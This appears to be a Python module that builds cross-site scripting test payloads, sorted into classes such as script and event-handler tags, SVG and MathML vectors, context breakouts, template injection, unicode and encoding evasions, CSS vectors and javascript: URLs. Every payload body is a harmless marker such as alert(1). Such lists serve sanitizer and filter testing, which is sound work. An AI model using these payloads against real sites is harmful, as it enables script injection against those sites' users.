"""Ways to make a page run what somebody typed, by class. Each would call `alert` or leave a mark if it ran."""

from itertools import product

RUN = (
    "alert(1)",
    "alert`1`",
    "window.ran=1",
    "document.documentElement.id='ran'",
    "top['al'+'ert'](1)",
    "\\u0061lert(1)",
)
TAGS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=data:,{}></script>", "<img src=x onerror={}>", "<img/src=x/onerror={}>",
    "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>", "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<video><source onerror={}>", "<audio src=x onerror={}>", "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<marquee onstart={}>x</marquee>",
    "<style onload={}></style>", "<link rel=stylesheet href=x onerror={}>", "<base href=javascript:{}//>", "<form action=javascript:{}><button>x",
    "<button formaction=javascript:{}>x</button>", "<a href=javascript:{}>x</a>", "<a href='jav&#x09;ascript:{}'>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<dialog open oncancel={}>x", "<p style=animation-name:x onanimationstart={}>",
)  # fmt: skip
VECTORS = (
    "<svg onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><a xlink:href=javascript:{}><text y=9>x",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'>", "<svg><foreignObject><body onload={}>", "<math><mtext></p><img src=x onerror={}>",
    "<math href=javascript:{}>x</math>", "<svg><set onbegin={} attributename=x>", "<svg/onload={}//", "<math><mi xlink:href=javascript:{}>x",
)  # fmt: skip
OUT_OF = (
    "'><script>{}</script>", '"><script>{}</script>', "' onmouseover={} x='", '" onfocus={} autofocus x="', "</textarea><script>{}</script>",
    "</title><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "</script><script>{}</script>", "';{}//", '";{}//',
    "\\';{}//", "</style><script>{}</script>", "`;{}//", "${{{}}}", "*/{}/*", '"}}];{}//', "</noscript><script>{}</script>", "' autofocus onfocus='{}",
)  # fmt: skip
TEMPLATES = (
    "{{{{constructor.constructor('{}')()}}}}", "{{% debug %}}{}", "{{{{7*7}}}}{}", "<%= {} %>", "#{{{}}}", "[[{}]]", "{{{{'a'|safe}}}}<script>{}</script>",
    "{{% autoescape off %}}<script>{}</script>", "__${{{}}}__", "<div x-data x-init={}>", "<div hx-on:load={}>", "<div v-on:click={}>", "<b hx-get=x hx-on::load={}>",
)  # fmt: skip
UNICODE = (
    "＜script＞{}＜/script＞", "\u202e<script>{}</script>", "<scr\u0131pt>{}</script>", "<\u017fcript>{}</\u017fcript>", "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "\\x3cscript\\x3e{}", "\\u003cscript\\u003e{}", "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "<img src=x oner\u200bror={}>", "<a href='java\u00adscript:{}'>x</a>", "\u2028<script>{}</script>", "\ufeff<script>{}</script>", "<x\u00a0onclick={}>",
)  # fmt: skip
STYLES = (
    "<style>@import 'javascript:{}';</style>", "<div style='background:url(javascript:{})'>", "<style>*{{background:url(//elsewhere.example/{})}}</style>",
    "<link rel=stylesheet href='data:text/css,*{{x:{}}}'>", "<div style=width:expression({})>", "<style>a{{}}</style><img src=x onerror={}>", "}}*{{x:{}",
)  # fmt: skip
ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "//elsewhere.example/{}",
    "javascript://%0a{}",
)
CLASSES = {
    "tags": TAGS, "svg and math": VECTORS, "breaking out": OUT_OF, "templates": TEMPLATES, "unicode": UNICODE, "styles": STYLES,
    "addresses": ADDRESSES,
}  # fmt: skip


def payloads(many: int) -> list[str]:
    """So many different ones, every class and every form of it as early as can be."""
    forms = [form for forms in CLASSES.values() for form in forms]
    first = [form.format(RUN[0]) for form in forms]
    spread = first if many >= len(first) else [first[number * len(first) // many] for number in range(many)]
    written = [form.format(run) for run, form in product(RUN, forms)]
    return list(dict.fromkeys(spread + written))[:many]
